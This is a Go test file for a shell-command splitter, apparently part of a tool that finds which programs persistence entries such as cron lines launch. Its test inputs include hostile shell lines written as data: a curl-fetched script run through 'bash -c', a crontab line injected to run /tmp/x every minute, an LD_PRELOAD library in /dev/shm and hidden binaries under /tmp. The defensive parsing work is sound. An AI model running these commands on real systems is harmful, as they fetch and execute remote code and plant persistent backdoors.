package persist

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"mvdan.cc/sh/v3/syntax"
)

func parsesAsBash(s string) bool {
	_, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(s), "")
	return err == nil
}

// TestShellSplit pins the words and substitutions shellSplit returns for
// lines the bash parser reads.
func TestShellSplit(t *testing.T) {
	tests := []struct {
		line string
		cmds [][]string
		subs []string
	}{
		{line: "nohup /tmp/.x/y >/dev/null 2>&1 &", cmds: [][]string{{"nohup", "/tmp/.x/y"}}},
		{line: `LD_PRELOAD=/dev/shm/.l.so PATH="$HOME/bin:$PATH" /usr/bin/true`,
			cmds: [][]string{{"LD_PRELOAD=/dev/shm/.l.so", "PATH=$HOME/bin:$PATH", "/usr/bin/true"}}},
		{line: "export PATH=/tmp/.bin:$PATH HOME", cmds: [][]string{{"export", "PATH=/tmp/.bin:$PATH", "HOME"}}},
		{line: `"/root/.acme.sh"/acme.sh --home '/root/.acme.sh' a\ b "c\d" "\$x"`,
			cmds: [][]string{{"/root/.acme.sh/acme.sh", "--home", "/root/.acme.sh", "a b", `c\d`, "$x"}}},
		{line: `bash -c "$(curl -fsSL http://x/i.sh)" ${1+"$@"}`,
			cmds: [][]string{{"bash", "-c", "$SUB", `${1+"$@"}`}}, subs: []string{"curl -fsSL http://x/i.sh"}},
		{line: "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
			cmds: [][]string{{"crontab", "-l"}, {"echo", "* * * * * /tmp/x"}, {"crontab", "-"}}},
		{line: "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
			cmds: [][]string{{"test", "-x", "/usr/sbin/anacron"}, {"cd", "/"}, {"run-parts", "--report", "/etc/cron.daily"}}},
		{line: "if [ -f /tmp/.k ]; then /tmp/.k; fi", cmds: [][]string{{"[", "-f", "/tmp/.k", "]"}, {"/tmp/.k"}}},
		{line: "for f in /tmp/*; do $f; done", cmds: [][]string{{"$f"}}},
		{line: "diff <(/tmp/.a) >(/tmp/.b) x", cmds: [][]string{{"diff", "x"}}, subs: []string{"/tmp/.a", "/tmp/.b"}},
		{line: "echo `a \\`b\\``; x=$((1+2))", cmds: [][]string{{"echo", "$SUB"}, {"x=$((1+2))"}}, subs: []string{"a `b`"}},
		{line: "# * * * * * curl http://x | sh"},
	}
	for _, tt := range tests {
		if !parsesAsBash(tt.line) {
			t.Errorf("%q: the parser rejects it; the case tests the fallback, not the parser", tt.line)
		}
		cmds, subs := shellSplit(tt.line)
		if diff := cmp.Diff(tt.cmds, cmds); diff != "" {
			t.Errorf("shellSplit(%q) cmds (-want +got):\n%s", tt.line, diff)
		}
		if diff := cmp.Diff(tt.subs, subs); diff != "" {
			t.Errorf("shellSplit(%q) subs (-want +got):\n%s", tt.line, diff)
		}
	}
}

// TestShellSplitParserBeatsTokenizer shows lines the hand-written
// tokenizer (kept as shellSplitLoose for unparsable input) read wrong
// and the bash parser reads right.
func TestShellSplitParserBeatsTokenizer(t *testing.T) {
	tests := []struct {
		name, line string
		want       []string // execTargets
	}{
		// matchParen did not know double quotes: the ")" inside "…"
		// closed $( and the program after the list was swallowed.
		{name: "quoted paren in $(…)", line: `msg=$(echo ")"); /tmp/.x/y`, want: []string{"/tmp/.x/y"}},
		{name: "quoted paren in \"$(…)\"", line: `echo "$(echo ")")" ; /tmp/.x/y`, want: []string{"/tmp/.x/y"}},
		// A case pattern's ")" inside $(…) closed the substitution.
		{name: "case in $(…)", line: `echo $(case x in a) /tmp/.x/y;; esac)`, want: []string{"/tmp/.x/y"}},
		// Nested backquotes: the inner \`…\` ended the outer one.
		{name: "nested backquotes", line: "echo `echo \\`/tmp/.x/y\\``", want: []string{"/tmp/.x/y"}},
		// A here-document's body is data given to cat, not commands.
		{name: "heredoc body", line: "cat <<EOF >/etc/motd\n/tmp/.x/y\nEOF", want: nil},
		// ${a#)} is one expansion; /tmp/.x/y is echo's argument.
		{name: "paren in ${…}", line: `echo $(echo ${a#)} ) /tmp/.x/y`, want: nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if !parsesAsBash(tt.line) {
				t.Fatalf("the parser rejects %q", tt.line)
			}
			if diff := cmp.Diff(tt.want, execTargets(tt.line)); diff != "" {
				t.Errorf("execTargets(%q) (-want +got):\n%s", tt.line, diff)
			}
			if old := looseTargets(tt.line, 0); cmp.Equal(tt.want, old) {
				t.Errorf("shellSplitLoose reads %q right too (%q): the case shows nothing", tt.line, old)
			}
		})
	}
}

// TestShellSplitFallback: lines the parser rejects (truncated,
// obfuscated, not shell), overlong and overdeep lines are read by the
// tolerant tokenizer, so they are read no worse than before.
func TestShellSplitFallback(t *testing.T) {
	for _, line := range []string{
		`/tmp/.x/y "unterminated`,
		"if /tmp/.x/y; then",
		"echo $(( ; /tmp/.x/y",
		"/tmp/.x/y )",
		"nohup /tmp/.x/y & `",
		"/tmp/.x/y " + strings.Repeat("a", maxParsedLine),
		// valid, but deeper than the parser is given (it recurses per level)
		strings.Repeat("(", maxParsedNesting+1) + "/tmp/.x/y" + strings.Repeat(")", maxParsedNesting+1),
	} {
		if len(line) <= maxParsedLine && bracketDepth(line) <= maxParsedNesting && parsesAsBash(line) {
			t.Errorf("the parser accepts %.40q: not a fallback case", line)
		}
		cmds, subs := shellSplit(line)
		lc, ls := shellSplitLoose(line)
		if !cmp.Equal(lc, cmds) || !cmp.Equal(ls, subs) {
			t.Errorf("shellSplit(%.40q) = %q, %q; want the tokenizer's %q, %q", line, cmds, subs, lc, ls)
		}
		if got := execTargets(line); !cmp.Equal(got, []string{"/tmp/.x/y"}) {
			t.Errorf("execTargets(%.40q) = %q, want [/tmp/.x/y]", line, got)
		}
	}
}

// looseTargets is execTargets as it was with the tokenizer alone (for
// lines without sh -c, su -c and the like, which rescan with shellSplit).
func looseTargets(line string, depth int) []string {
	var sc execScan
	if depth > maxShellDepth {
		return nil
	}
	cmds, subs := shellSplitLoose(line)
	for _, s := range subs {
		for _, p := range looseTargets(s, depth+1) {
			sc.add(p, false)
		}
	}
	for _, w := range cmds {
		sc.simple(w, depth)
	}
	return sc.out
}
